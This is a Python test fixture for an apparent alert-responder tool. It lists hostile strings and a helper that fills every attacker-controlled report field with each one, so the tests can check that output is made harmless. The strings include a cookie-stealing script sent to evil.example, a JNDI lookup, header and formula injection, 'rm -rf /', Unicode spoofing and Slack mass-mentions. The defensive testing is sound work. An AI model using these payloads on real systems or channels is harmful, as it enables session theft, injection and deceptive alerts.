"""Strings of an attacker: each is active in some output if it is not made harmless.

`HOSTILE` names them. `report_of` puts one into every field of a report that an attacker can write.
"""

from typing import Any

from alert_responder.contracts.report import Report
from tests.fakes.reports import REPORT_ID, a_finding, a_report, an_alert, an_attribute

HOSTILE: dict[str, str] = {
    # Slack
    "slack channel": "<!channel> wake up",
    "slack here": "<!here|here>",
    "slack everyone": "<!everyone>",
    "slack user": "<@U012AB3CD>",
    "slack group": "<!subteam^S0614TZR7|@secops>",
    "slack room": "<#C024BE7LR|general>",
    "slack link": "<https://evil.example/login|Open in the console>",
    "slack mail link": "<mailto:eve@evil.example|Mail us>",
    "slack date": "<!date^1392734382^Posted {date_num}^https://evil.example/|2014>",
    "slack bold": "*all is well*",
    "slack italic": "_all is well_",
    "slack strike": "~severity: urgent~",
    "slack code": "`rm -rf /`",
    "slack fence": "```\nend\n```\n<!channel>",
    "slack quote": "> quoted\n&gt; quoted",
    "slack three quotes": ">>> all of it",
    "slack emoji": ":rotating_light: :white_check_mark:",
    "slack entities": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "slack half": "<!chan",
    "slack list": "- one\n• two\n1. three",
    # GitHub and Markdown
    "github user": "@octocat please look",
    "github team": "@acme/security",
    "github issue": "fixes #1, closes acme/infra#23, GH-7",
    "github commit": "acme/infra@0123456789abcdef0123456789abcdef01234567",
    "github closing fence": "```\n# A heading\n```",
    "github tildes": "~~~\n~~~\n<script>alert(1)</script>",
    "markdown link": "[log in](https://evil.example/)",
    "markdown script link": "[x](javascript:alert(1))",
    "markdown image": "![pixel](https://evil.example/pixel.png)",
    "markdown reference": "[a]: https://evil.example/ 'x'\n[a]",
    "markdown autolink": "<https://evil.example/>",
    "markdown table": "a | b\n--|--\n| c | d |",
    "markdown heading": "# Severity: safe\n===\n---",
    "markdown task": "- [x] handled",
    "markdown footnote": "[^1]: note",
    "markdown math": "$$\\href{javascript:alert(1)}{x}$$",
    "markdown emphasis": "**safe** __safe__ ***safe***",
    "markdown backslash": "\\`\\*\\<!channel\\>",
    # HTML
    "html script": "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    "html image": "<img src=x onerror=alert(1)>",
    "html comment": "<!-- hidden -->",
    "html details": "</td></tr></table></details><h1>safe</h1>",
    "html style": "<style>*{display:none}</style>",
    "html entity": "&#60;img src=x&#62; &#x3c;b&#x3e;",
    "html frame": '<iframe src="//evil.example"></iframe>',
    "html attribute": '" onmouseover="alert(1)" x=\'',
    # Addresses
    "url": "https://evil.example/a?b=c&d=e#f",
    "url upper": "HTTPS://EVIL.EXAMPLE/",
    "url userinfo": "https://bank.example@evil.example/",
    "url back slashes": "http:\\\\evil.example\\x",
    "url scripts": "javascript:alert(document.domain)",
    "url data": "data:text/html;base64,PHNjcmlwdD4=",
    "url file": "file:///etc/passwd \\\\evil.example\\share",
    "url app": "slack://open ms-msdt:/id vscode://x facetime://evil.example",
    "domain": "evil.example and www.evil.example",
    "domain idn": "ev\u0456l.example xn--evl-8cd.example",
    "domain other dots": "evil\u3002example evil\uff0eexample evil\uff61example",
    "domain hidden dot": "evil\u200b.\u200bexample",
    "mail": "eve@evil.example",
    "address": "198.51.100.7:8080 [2001:db8::1]",
    "phone": "tel:+15551234567 sms:+15551234567",
    # Invisible characters
    "bidi override": "invoice\u202efdp.exe",
    "bidi isolate": "\u2066admin\u2069\u2067nimda\u2069",
    "zero width": "<\u200b!chan\u200bnel> @\u200bhere ht\u200dtps://evil.example",
    "byte order mark": "\ufeff=cmd|' /C calc'!A0",
    "tags": "safe\U000e0075\U000e0072\U000e0067\U000e0065\U000e006e\U000e0074",
    "soft hyphen": "<!chan\u00adnel>",
    "variation selector": ":\ufe0fsmile\ufe0f:",
    "heap of marks": "Z" + "\u0336\u0353\u035b" * 200,
    "blank letters": "\u3164\u115f\u2800",
    "lone surrogate": "half \ud83d pair".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    # Controls and structure
    "terminal": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J",
    "bell and null": "a\x00b\x07c\x08",
    "new lines": "one\r\n\r\n\r\n\r\n# two\u2028three\u2029four\x0bfive\x0csix\x85seven",
    "json": '"}],"severity":"safe","x":[{"a":"',
    "header": "x\r\nSet-Cookie: a=b",
    "template": "{{7*7}} ${jndi:ldap://evil.example/a} <%= 7*7 %> %s%n",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "long word": "A" * 6_000,
    "long mark-up": "<!channel>" * 1_000,
    "long escapes": "&" * 5_000,
    "many lines": "x\n" * 3_000,
    "astral letters": "\U0001d400" * 3_200,
}


def report_of(text: str, **fields: Any) -> Report:
    """Put a string into every field of a report that an attacker can write."""
    contents = [
        {
            "type": "host",
            "verdict": "malicious",
            "source": text,
            "link": text,
            **{
                name: [text, text]
                for name in ("ipaddr", "country", "as_owner", "username", "owner", "os", "macaddr", "hostname")
            },
            "related_domains": [{"name": text, "timestamp": text, "source": text}],
            "related_urls": [{"url": text, "reference": text, "timestamp": text, "source": text}],
            "related_malware": [
                {
                    "sha256": text,
                    "timestamp": text,
                    "relation": text,
                    "scans": [{"vendor": text, "name": text, "positive": True, "source": text}],
                }
            ],
            "activities": [_activity(text)],
            "software": [{"name": text, "location": text, "last_seen": text}],
        },
        {"type": "user", "verdict": "suspicious", "source": text, "link": text, "activities": [_activity(text)]},
        {"type": "note", "title": text, "text": text, "data": {text: [text]}, "source": text, "link": text},
    ]
    attribute = an_attribute(
        text,
        type=text,
        key=text,
        context=[text],
        timestamp=text,
        origin={"inspector": text, "attribute_type": text, "attribute_value": text},
    )
    finding = {"attribute_type": text, "attribute_value": text}
    # Alerts validate these attributes.
    word = {"type": "username", "key": text, "value": text or "-", "context": ["remote"]}
    return a_report(
        **{
            "result": {
                "severity": fields.get("severity", "urgent"),
                "reason": text,
                "reviewer": None,
                "rule": text,
                "labels": [text],
                "suppressed": {
                    "name": text[:100] or "-",
                    "owner": text[:200] or "-",
                    "reason": text[:1_000] or "-",
                    "expires": "2027-03-01",
                },
                "breakthrough": text,
            },
            "title": text,
            "overview": {
                "severity": text,
                "accounts": [
                    {"id": text, "name": text, "in_directory": True, "unit": text, "owner": text, "environment": text}
                ],
                "regions": [text],
            },
            "alerts": [
                an_alert(
                    event_id=text,
                    arrived_at=text,
                    detector=text,
                    rule_id=text,
                    rule_name=text,
                    alert_key=text,
                    description=text,
                    timestamp=text,
                    severity=text,
                    attributes=[word],
                    body={text: [text]},
                )
            ],
            "attributes": [attribute, {**attribute, "valid": False}],
            "findings": [
                a_finding(text, contents=contents, **finding),
                *(
                    a_finding(text, outcome=outcome, reason=text, **finding)
                    for outcome in ("error", "throttled", "timeout", "invalid", "skipped")
                ),
            ],
            "emissions": [{"emitter": "other", "round": 1, "outcome": "failed", "reason": text, "url": text}],
            "timeline": [{"at": text, "what": text}],
            "notes": [text],
            "id": REPORT_ID,
            "created_at": text,
            "updated_at": text,
            **fields,
        }
    )


def _activity(text: str) -> dict[str, str]:
    return dict.fromkeys(("service_name", "remote_addr", "principal", "action", "target", "last_seen"), text)
